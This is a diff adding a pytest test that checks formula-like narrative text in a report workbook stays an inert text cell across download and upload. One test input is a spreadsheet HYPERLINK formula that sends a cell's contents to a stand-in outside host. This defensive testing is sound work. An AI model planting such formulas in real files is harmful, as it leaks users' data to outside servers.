@@ -91,6 +91,25 @@ def test_uploading_the_same_workbook_twice_changes_nothing(focal, cycle):
     assert (again.saved, again.issues) == ([], [])
 
 
+@pytest.mark.parametrize(
+    "narrative", ['=HYPERLINK("https://example.org/?"&B2, "x")', "@SUM(A1)", "-2 days", "+1"]
+)
+def test_a_downloaded_workbook_uploaded_unchanged_keeps_a_formula_like_narrative(
+    focal, cycle, more_users, narrative
+):
+    """The narrative is a text cell: it reads back as written, so nothing is saved."""
+    saved = save(report(cycle, ECONOMY, "8.1.1.1"), more_users["focal_in"], narrative=narrative)
+    data = download(focal, cycle)
+    sheet = load_workbook(io.BytesIO(data))[M]
+    letter, _heading = rw.column_letter(M, "narrative")
+    cell = sheet[f"{letter}{row_of(data, '8.1.1.1')}"]
+    assert (cell.value, cell.data_type) == (narrative, "s")
+    result = upload(focal, cycle, data).context["result"]
+    assert (result.saved, result.issues) == ([], [])
+    after = report(cycle, ECONOMY, "8.1.1.1")
+    assert (after.narrative, after.version) == (narrative, saved.version)
+
+
 def test_row_errors_name_sheet_row_and_column_and_valid_rows_still_land(focal, cycle):
     data = download(focal, cycle)
     changes = {
